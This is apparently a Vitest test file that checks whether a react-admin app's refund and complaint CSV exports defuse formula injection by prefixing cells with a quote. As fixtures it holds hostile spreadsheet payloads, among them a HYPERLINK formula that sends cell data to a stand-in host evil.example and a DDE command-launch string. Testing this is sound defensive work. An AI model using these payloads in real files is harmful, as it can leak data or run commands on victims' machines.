// @vitest-environment jsdom
// The queues' Export buttons write through the one CSV writer: a customer name or complaint text
// that starts like a formula reaches the file as text, and amounts stay numbers.
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { ResourceContextProvider } from 'react-admin';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ComplaintList } from '../../src/complaints/ComplaintList';
import type { Complaint } from '../../src/domain/model';
import * as make from '../../src/domain/records';
import { RefundList } from '../../src/refunds';
import { fakeDataProvider, makeRefund, renderWithAdmin, users } from './fixtures';

const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '＋cmd', '\t=1+1', '@SUM(A1)'];

let downloads: Blob[] = [];
beforeEach(() => {
  downloads = [];
  // jsdom has no object URLs: keep the file the app hands to the browser
  URL.createObjectURL = vi.fn((blob: Blob) => {
    downloads.push(blob);
    return 'blob:export';
  });
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
});
afterEach(() => vi.restoreAllMocks());

/** The cells of each CSV line (the test's records have no quoted line breaks). */
function cellsOf(csv: string, column: string): string[] {
  const [header, ...lines] = csv.split('\r\n');
  const at = header!.split(',').indexOf(column);
  return lines.map((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ''))[at]!);
}

async function exported(): Promise<string> {
  // the toolbar's buttons load after the first rows (AfterRows): allow a busy machine its time
  fireEvent.click(await screen.findByRole('button', { name: /export/i }, { timeout: 10_000 }));
  await waitFor(() => expect(downloads).toHaveLength(1), { timeout: 10_000 });
  return downloads[0]!.text();
}

describe('CSV exports', () => {
  it("the refund queue's export writes hostile customer names as text and money as numbers", async () => {
    const refunds = HOSTILE_NAMES.map((customerName, i) =>
      makeRefund({ id: `r${i}`, orderNumber: `CZ-${i}`, customerName, paidFen: -120 + i, approvedFen: null }),
    );
    renderWithAdmin(
      <ResourceContextProvider value="refunds">
        <RefundList />
      </ResourceContextProvider>,
      { dataProvider: fakeDataProvider({ refunds, users }) },
    );
    await screen.findByText('CZ-0');
    const csv = await exported();
    const names = cellsOf(csv, 'customerName');
    expect(names).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
      "'＋cmd",
      "'\t=1+1",
      "'@SUM(A1)",
    ]);
    expect(cellsOf(csv, 'paidFen')).toEqual(['-120', '-119', '-118', '-117']);
    expect(cellsOf(csv, 'approvedFen')).toEqual(['', '', '', '']);
  });

  it("the complaint queue's export guards the customer's complaint text", async () => {
    const complaint: Complaint = make.complaint({
      customerName: '-2+3',
      description: "=cmd|' /C calc'!A0",
      originalDecision: { status: 'rejected', reviewerId: 'u1', amountFen: null },
      version: 0,
    });
    renderWithAdmin(
      <ResourceContextProvider value="complaints">
        <ComplaintList />
      </ResourceContextProvider>,
      { dataProvider: fakeDataProvider({ complaints: [complaint], users }) },
    );
    await screen.findByText('CZ-C1');
    const csv = await exported();
    expect(cellsOf(csv, 'description')).toEqual(["'=cmd|' /C calc'!A0"]);
    expect(cellsOf(csv, 'customerName')).toEqual(["'-2+3"]);
    expect(cellsOf(csv, 'level')).toEqual(['1']);
    expect(cellsOf(csv, 'originalDecision.status')).toEqual(['rejected']);
  });
});
